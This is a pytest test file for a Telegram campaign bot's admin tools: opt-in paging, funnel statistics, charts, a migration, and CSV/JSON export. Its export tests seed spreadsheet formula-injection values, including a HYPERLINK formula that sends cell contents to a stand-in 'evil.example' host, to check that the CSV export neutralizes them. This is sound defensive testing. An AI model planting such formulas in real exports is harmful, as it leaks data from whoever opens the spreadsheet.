"""What admins review, below Telegram: pages, numbers, export cells and streams, migration."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sqlite3
import struct
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

import pytest

from bot.chart import draw_chart
from bot.render import plain
from bot.review import export_optins, gather_stats, load_page
from flows.admin import (
    CSV_COLUMNS,
    PAGE_SIZE,
    AdminView,
    Chart,
    OptIn,
    OptInPage,
    Stats,
    clamp_page,
    csv_cells,
    neutralize,
    page_count,
    parse_page,
    percent,
)
from flows.content import Content
from flows.models import Funnel, Status
from storage import Database, open_database
from storage.content import load_content
from storage.migrations import MIGRATIONS
from tests.admin_data import VERSION, add_subscriber, add_subscribers, add_visitor
from tests.conftest import CONTENT_DIR

NOW = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)


# -- pure: paging, percentages, cells -------------------------------------------------------


@pytest.mark.parametrize(
    ("arg", "page"),
    [("", 1), ("  ", 1), ("1", 1), ("7", 7), (" 12 ", 12), ("0", None), ("-1", None),
     ("two", None), ("2.5", None), ("²", None), ("1e3", None)],
)  # fmt: skip
def test_parse_page(arg: str, page: int | None) -> None:
    assert parse_page(arg) == page


@pytest.mark.parametrize(
    ("requested", "total", "shown", "pages"),
    [(1, 0, 1, 1), (3, 0, 1, 1), (1, 20, 1, 1), (2, 20, 1, 1), (2, 21, 2, 2), (3, 41, 3, 3),
     (99, 41, 3, 3), (0, 41, 1, 3)],
)  # fmt: skip
def test_clamp_page(requested: int, total: int, shown: int, pages: int) -> None:
    assert clamp_page(requested, total) == shown
    assert page_count(total) == pages


@pytest.mark.parametrize(
    ("part", "whole", "shown"),
    [(5, 10, "50.0%"), (1, 3, "33.3%"), (0, 7, "0.0%"), (3, 0, None), (10, 10, "100.0%")],
)
def test_percent(part: int, whole: int, shown: str | None) -> None:
    assert percent(part, whole) == shown


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("+1-2", "'+1-2"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("flyer-dorchester", "flyer-dorchester"),
        ("a=b", "a=b"),
        ("José", "José"),
        ("", ""),
    ],
)
def test_export_cells_a_spreadsheet_would_run_stay_text(cell: str, safe: str) -> None:
    assert neutralize(cell) == safe
    row = csv_cells(_optin(1, source=cell, first_name=cell), names=True)
    assert row[CSV_COLUMNS.index("source")] == safe
    assert row[CSV_COLUMNS.index("first_name")] == safe


def _optin(n: int, **changes: object) -> OptIn:
    values: dict[str, object] = {
        "user_id": n,
        "first_name": None,
        "username": None,
        "consent_at": "2026-11-28T12:00:00Z",
        "consent_method": "command",
        "consent_version": VERSION,
        "source": None,
        "language": "en",
        "status": Status.ACTIVE,
        "changed_at": "2026-11-28T12:00:00Z",
        **changes,
    }
    return OptIn(**values)  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def every_language(tmp_path_factory: pytest.TempPathFactory) -> Content:
    """The shipped content with every language that has files offered."""
    folder = tmp_path_factory.mktemp("content") / "content"
    shutil.copytree(CONTENT_DIR, folder)
    langs = sorted(p.parent.name for p in folder.glob("*/staff.yaml"))
    campaign = folder / "campaign.yaml"
    text = re.sub(r"(?m)^languages: .*$", f"languages: [{', '.join(langs)}]", campaign.read_text())
    campaign.write_text(text)
    return load_content(folder)


@pytest.mark.parametrize("lang", ["en", "es", "pt"])
def test_a_full_page_of_the_longest_rows_fits_one_message(
    every_language: Content, lang: str
) -> None:
    longest = _optin(
        -1001234567890,
        first_name="Ж" * 64,
        username="u" * 32,
        consent_method="text:unsubscribe",
        consent_version="v" * 40,
        source="s" * 64,
        status=Status.BLOCKED,
    )
    rows = tuple(longest for _ in range(PAGE_SIZE))
    totals = {Status.ACTIVE: 10**6, Status.UNSUBSCRIBED: 10**6, Status.BLOCKED: 10**6}
    page = OptInPage(rows=rows, number=9999, pages=99999, totals=totals, beyond=True)
    reply = AdminView(every_language, lang).optins(page, names=True)
    assert len(plain(reply.text).encode("utf-16-le")) // 2 <= 4096
    assert reply.text.count("<code>") == PAGE_SIZE


def test_names_show_only_when_kept(content: Content) -> None:
    row = _optin(7, first_name="Ana <b>", username="ana")
    page = OptInPage(rows=(row,), number=1, pages=1, totals={Status.ACTIVE: 1})
    view = AdminView(content, "en")
    assert "Ana &lt;b&gt; @ana" in view.optins(page, names=True).text
    hidden = view.optins(page, names=False).text
    assert "Ana" not in hidden and "@ana" not in hidden and "<code>7</code>" in hidden


# -- storage: pages --------------------------------------------------------------------------


async def _page_ids(db: Database, requested: int) -> tuple[list[int], OptInPage]:
    page = await load_page(db, requested)
    return [row.user_id for row in page.rows], page


def _page_buttons(page: OptInPage, content: Content) -> dict[str, str]:
    reply = AdminView(content, "en").optins(page, names=False)
    return {b.label: b.data or "" for row in reply.buttons for b in row}


async def test_an_empty_list_is_one_empty_page(db: Database, content: Content) -> None:
    ids, page = await _page_ids(db, 1)
    assert ids == [] and page.number == 1 and page.pages == 1 and page.total == 0
    reply = AdminView(content, "en").optins(page, names=False)
    assert reply.text == "Nobody has opted in yet." and reply.buttons == ()
    _, beyond = await _page_ids(db, 5)
    assert AdminView(content, "en").optins(beyond, names=False).text == reply.text


async def test_exactly_one_page_has_no_buttons(db: Database, content: Content) -> None:
    await add_subscribers(db, PAGE_SIZE, NOW)
    ids, page = await _page_ids(db, 1)
    assert ids == list(range(PAGE_SIZE, 0, -1))  # newest first
    assert page.pages == 1 and _page_buttons(page, content) == {}
    reply = AdminView(content, "en").optins(page, names=False)
    assert "page 1 of 1" in reply.text and "20 in all: 20 subscribed" in reply.text


async def test_pages_at_the_edges(db: Database, content: Content) -> None:
    await add_subscribers(db, 2 * PAGE_SIZE + 1, NOW)  # 41: pages of 20, 20, 1
    first_ids, first = await _page_ids(db, 1)
    assert first_ids == list(range(41, 21, -1))
    assert _page_buttons(first, content) == {"Next ▶": "optins:2"}  # no previous on page 1
    middle_ids, middle = await _page_ids(db, 2)
    assert middle_ids == list(range(21, 1, -1))
    assert _page_buttons(middle, content) == {"◀ Previous": "optins:1", "Next ▶": "optins:3"}
    last_ids, last = await _page_ids(db, 3)
    assert last_ids == [1] and not last.beyond
    assert _page_buttons(last, content) == {"◀ Previous": "optins:2"}
    beyond_ids, beyond = await _page_ids(db, 4)
    assert beyond_ids == [1] and beyond.number == 3 and beyond.beyond
    text = AdminView(content, "en").optins(beyond, names=False).text
    assert "only 3 pages" in text and "page 3 of 3" in text


async def test_the_list_shows_what_admins_need(db: Database, content: Content) -> None:
    await add_subscriber(db, 11, NOW - timedelta(days=2), source="flyer-dorchester")
    await add_subscriber(db, 12, NOW - timedelta(days=1), status=Status.UNSUBSCRIBED)
    await add_subscriber(db, 13, NOW, status=Status.BLOCKED, lang="es", method="button")
    await db.commit()
    _, page = await _page_ids(db, 1)
    text = AdminView(content, "en").optins(page, names=False).text
    lines = [line for line in text.splitlines() if "<code>" in line]
    assert [line.split("</code>")[0] for line in lines] == [
        "<code>13",
        "<code>12",
        "<code>11",
    ]
    assert "blocked the bot · opted in 2026-11-28 12:00 by button" in lines[0]
    assert "· es" in lines[0] and VERSION in lines[0]
    assert "unsubscribed" in lines[1] and "from no link" in lines[1]
    assert "from flyer-dorchester" in lines[2]
    assert "3 in all: 1 subscribed, 1 unsubscribed, 1 blocked" in text


# -- storage: stats ----------------------------------------------------------------------------


async def _seed_campaign(db: Database) -> None:
    old, recent = NOW - timedelta(days=20), NOW - timedelta(days=2)
    every = list(Funnel)
    for n in range(1, 11):  # 10 started long ago; 6 learned, 4 asked, 3 acted, 2 subscribed
        await add_visitor(db, n, old, every[: 1 + (n <= 6) + (n <= 4) + (n <= 3) + (n <= 2)])
    for n in range(11, 15):  # 4 recent: all started, 2 learned, 1 went all the way
        await add_visitor(db, n, recent, every[: 1 + (n <= 12) + 3 * (n == 11)])
    await add_subscriber(db, 1, old)
    await add_subscriber(db, 2, old, status=Status.UNSUBSCRIBED)
    await add_subscriber(db, 11, recent)
    await add_subscriber(db, 12, NOW - timedelta(days=40), status=Status.BLOCKED)
    for _ in range(5):
        await db.questions.count("answered", NOW - timedelta(days=10))
    await db.questions.count("answered", NOW)
    await db.questions.count("declined", NOW - timedelta(days=1))
    await db.commit()


async def test_stats_match_the_events(db: Database, content: Content) -> None:
    await _seed_campaign(db)
    stats = await gather_stats(db, NOW)
    assert stats.statuses == {Status.ACTIVE: 2, Status.UNSUBSCRIBED: 1, Status.BLOCKED: 1}
    assert (stats.new_7, stats.new_30) == (1, 3)
    counts = [stats.funnel_all[step] for step in Funnel]
    assert counts == [14, 8, 5, 4, 3]
    assert [stats.funnel_7[step] for step in Funnel] == [4, 2, 1, 1, 1]
    assert stats.questions_all == {"answered": 6, "declined": 1}
    assert stats.questions_7 == {"answered": 1, "declined": 1}
    text = AdminView(content, "en").stats(stats).text
    assert "Subscribers: 2 subscribed, 1 unsubscribed, 1 blocked the bot." in text
    assert "New opt-ins: 1 in the last 7 days, 3 in the last 30 days." in text
    all_time, week = text.split("Funnel, all time")[1].split("Funnel, last 7 days")
    assert "Started: 14\n" in all_time
    assert "Learned about S-Comm: 8 (57.1% of the step above)" in all_time
    assert "Asked a question: 5 (62.5% of the step above)" in all_time
    assert "Thanked the governor: 4 (80.0% of the step above)" in all_time
    assert "Subscribed: 3 (75.0% of the step above)" in all_time
    assert "Learned about S-Comm: 2 (50.0% of the step above)" in week
    assert "Asked a question: 1 (50.0% of the step above)" in week
    assert "6 answered, 1 declined; last 7 days 1 answered, 1 declined" in text


async def test_new_opt_ins_per_day_include_the_days_with_none(db: Database) -> None:
    today = NOW.replace(hour=0)  # 2026-11-28 00:00 UTC
    for user_id, at in (
        (1, today - timedelta(seconds=4 * 86400 + 1)),  # 11-23 23:59:59: before the 5 days
        (2, today - timedelta(days=4)),  # 11-24 00:00:00
        (3, today - timedelta(days=3, seconds=1)),  # 11-24 23:59:59
        (4, today - timedelta(days=2, hours=-6)),  # 11-26
        (5, today),  # 11-28, the first second of today
        (6, NOW),  # 11-28 12:00
    ):
        left = Status.UNSUBSCRIBED if user_id == 4 else Status.ACTIVE
        await add_subscriber(db, user_id, at, status=left)
    await db.commit()
    expected = [
        (date(2026, 11, 24), 2),
        (date(2026, 11, 25), 0),
        (date(2026, 11, 26), 1),  # consent given that day, withdrawn since: still counted
        (date(2026, 11, 27), 0),
        (date(2026, 11, 28), 2),
    ]
    assert await db.subscriptions.new_per_day(NOW, 5) == expected
    boston = NOW.astimezone(timezone(timedelta(hours=-5)))  # the same moment: days are UTC
    assert await db.subscriptions.new_per_day(boston, 5) == expected
    assert await db.subscriptions.new_per_day(NOW, 1) == expected[-1:]
    month = (await gather_stats(db, NOW)).new_per_day
    assert len(month) == 30 and month[0] == (date(2026, 10, 30), 0)
    assert month[-6:] == ((date(2026, 11, 23), 1), *expected)
    assert sum(n for _, n in month) == 6


def test_the_chart_is_labelled_in_the_admins_language(content: Content) -> None:
    stats = Stats(
        statuses={}, new_7=0, new_30=3, funnel_all={Funnel.STARTED: 9, Funnel.ACTED: 2},
        funnel_7={}, questions_all={}, questions_7={},
        new_per_day=((date(2026, 11, 27), 1), (date(2026, 11, 28), 2)),
    )  # fmt: skip
    chart = AdminView(content, "es").chart(stats, date(2026, 11, 28))
    assert chart.title == "Cifras de la campaña, 2026-11-28 (UTC)"
    assert chart.days == (("27/11", 1), ("28/11", 2))
    assert chart.days_title == "Nuevas suscripciones por día, últimos 2 días"
    assert chart.funnel[0] == ("Empezaron", 9) and chart.funnel[3][1] == 2
    assert [count for _, count in chart.funnel] == [9, 0, 0, 2, 0]
    assert chart.people == "Personas"
    english = AdminView(content, "en").chart(stats, date(2026, 11, 28))
    assert english.days[0] == ("11/27", 1) and english.funnel[0] == ("Started", 9)


def test_the_chart_is_a_png_whatever_its_labels_say() -> None:
    chart = Chart(
        title="Fee $5 & more $", days_title="ação, año", days=(("a$b", 0),) * 30,
        funnel_title="<b>not html</b>", funnel=(("x", 0), ("y", 10**6)), people="$",
    )  # fmt: skip
    png = draw_chart(chart)
    assert png[:8] == b"\x89PNG\r\n\x1a\n" and png[12:16] == b"IHDR"
    assert struct.unpack(">II", png[16:24]) == (800, 800)


async def test_a_funnel_with_nobody_shows_no_percentages(db: Database, content: Content) -> None:
    text = AdminView(content, "en").stats(await gather_stats(db, NOW)).text
    assert "Started: 0\n" in text and "Subscribed: 0 (– of the step above)" in text


async def test_funnel_totals_follow_inserts_repeats_and_erasure(db: Database) -> None:
    await add_visitor(db, 1, NOW, [Funnel.STARTED, Funnel.LEARNED])
    await add_visitor(db, 2, NOW, [Funnel.STARTED, Funnel.STARTED])  # counted once
    await db.commit()
    totals = await db.admin.funnel_totals()
    assert (totals[Funnel.STARTED], totals[Funnel.LEARNED]) == (2, 1)
    await db.users.delete(1)  # the cascade erases their funnel rows too
    await db.commit()
    totals = await db.admin.funnel_totals()
    assert (totals[Funnel.STARTED], totals[Funnel.LEARNED]) == (1, 0)


async def test_the_migration_counts_an_existing_funnel(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite3"
    with sqlite3.connect(path) as old:
        old.execute("CREATE TABLE migrations (name TEXT PRIMARY KEY, applied_at TEXT NOT NULL)")
        for name, sql in MIGRATIONS:
            if name < "m004":
                old.executescript(sql)
                old.execute("INSERT INTO migrations VALUES (?, 'then')", (name,))
        old.executemany(
            "INSERT INTO users (user_id, lang, first_seen) VALUES (?, 'en', 'then')",
            [(n,) for n in range(1, 4)],
        )
        old.executemany(
            "INSERT INTO funnel_events VALUES (?, ?, '2026-01-01T00:00:00Z')",
            [(1, "started"), (2, "started"), (3, "started"), (1, "acted")],
        )
    old.close()
    db = await open_database(path)
    try:
        counted = await db.admin.funnel_totals()
    finally:
        await db.close()
    assert counted[Funnel.STARTED] == 3 and counted[Funnel.ACTED] == 1
    assert counted[Funnel.LEARNED] == 0


# -- export ------------------------------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def _seed_hostile(db: Database) -> None:
    await add_subscriber(
        db, 21, NOW - timedelta(hours=2), first_name=HOSTILE, username="@SUM", source="-2+3"
    )
    await add_subscriber(
        db,
        22,
        NOW - timedelta(hours=1),
        first_name="José Ñúñez 李",
        username="jose",
        source="flyer",
        status=Status.UNSUBSCRIBED,
    )
    await db.commit()


async def _export(db: Database, fmt: str, *, names: bool) -> tuple[int, bytes]:
    out = io.BytesIO()
    rows = await export_optins(db, out, fmt, names=names)  # type: ignore[arg-type]
    return rows, out.getvalue()


async def test_the_csv_is_safe_to_open_in_a_spreadsheet(db: Database) -> None:
    await _seed_hostile(db)
    count, data = await _export(db, "csv", names=True)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert count == 2 and rows[0] == list(CSV_COLUMNS)
    hostile, jose = (dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:])  # by id
    assert hostile["first_name"] == "'" + HOSTILE
    assert hostile["username"] == "'@SUM" and hostile["source"] == "'-2+3"
    assert jose["first_name"] == "José Ñúñez 李" and jose["status"] == "unsubscribed"
    assert jose["consent_at"] == "2026-11-28T11:00:00Z"
    assert jose["status_changed_at"] == "2026-11-28T12:00:00Z"
    for row in (jose, hostile):
        for column in ("consent_at", "status_changed_at"):
            assert datetime.fromisoformat(row[column]).tzinfo is not None
        assert row["consent_version"] == VERSION and row["language"] == "en"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


async def test_names_are_left_out_unless_kept(db: Database) -> None:
    await _seed_hostile(db)
    _, data = await _export(db, "csv", names=False)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert [(r["user_id"], r["first_name"], r["username"]) for r in rows] == [
        ("21", "", ""),
        ("22", "", ""),
    ]


async def test_the_json_export_keeps_values_as_they_are(db: Database) -> None:
    await _seed_hostile(db)
    count, data = await _export(db, "json", names=True)
    records = json.loads(data.decode("utf-8"))
    assert count == 2 and [r["user_id"] for r in records] == [21, 22]
    assert list(records[0]) == list(CSV_COLUMNS)
    assert records[0]["first_name"] == HOSTILE and records[0]["source"] == "-2+3"
    assert records[1]["first_name"] == "José Ñúñez 李"


@pytest.mark.parametrize(("fmt", "empty"), [("csv", ",".join(CSV_COLUMNS) + "\r\n"),
                                            ("json", "[]\n")])  # fmt: skip
async def test_an_empty_export_is_still_well_formed(db: Database, fmt: str, empty: str) -> None:
    assert await _export(db, fmt, names=False) == (0, empty.encode())


async def test_the_export_streams_in_chunks_from_its_own_snapshot(db: Database) -> None:
    await add_subscribers(db, 2500, NOW)
    chunks = [len(chunk) async for chunk in db.admin.each_optin(chunk=1000)]
    assert chunks == [1000, 1000, 500]
    seen = 0
    async for chunk in db.admin.each_optin(chunk=1000):
        if seen == 0:  # the bot keeps writing while an export runs
            await add_subscribers(db, 10, NOW + timedelta(days=1), first_id=10_000)
        seen += len(chunk)
    assert seen == 2500


async def test_the_unanswered_list_is_pruned_and_anonymous(db: Database, content: Content) -> None:
    for days in (1, 2, 3):
        asked = NOW - timedelta(days=days)
        await db.questions.record_unanswered("Is it safe to call?", "en", asked)
    await db.questions.record_unanswered("when is the hearing", "en", NOW)
    await db.questions.record_unanswered("can ice see my records", "en", NOW - timedelta(days=95))
    await db.commit()
    assert len(await db.questions.top_unanswered(NOW - timedelta(days=400))) == 3
    assert await db.questions.purge(NOW - timedelta(days=90)) == 1
    top = await db.questions.top_unanswered(NOW - timedelta(days=400))
    assert [(q.question, q.times) for q in top] == [
        ("is it safe to call?", 3),
        ("when is the hearing", 1),
    ]
    text = AdminView(content, "en").unanswered(top, 90).text
    assert text.index("safe to call") < text.index("hearing") and "3×" in text
    assert "No declined questions" in AdminView(content, "en").unanswered([], 90).text
